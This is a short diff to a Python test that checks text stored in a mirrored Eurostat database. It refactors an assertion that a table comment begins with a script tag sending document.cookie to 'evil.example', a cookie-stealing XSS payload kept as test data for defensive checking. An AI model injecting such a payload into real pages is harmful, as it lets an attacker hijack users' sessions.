@@ -117,9 +117,8 @@ def test_the_database_holds_text_and_no_secret(mirrored: Mirrored) -> None:
             for where, text in cursor.fetchall():
                 check(text or "", where)
         cursor.execute("SELECT obj_description(%s::regclass)", (f"eurostat.{CODE.lower()}",))
-        assert cursor.fetchone()[0].startswith(
-            "<script>fetch('http://evil.example/'+document.cookie)</script>"
-        )
+        ((comment,),) = cursor.fetchall()
+        assert comment.startswith("<script>fetch('http://evil.example/'+document.cookie)</script>")
     connection.close()
 
 
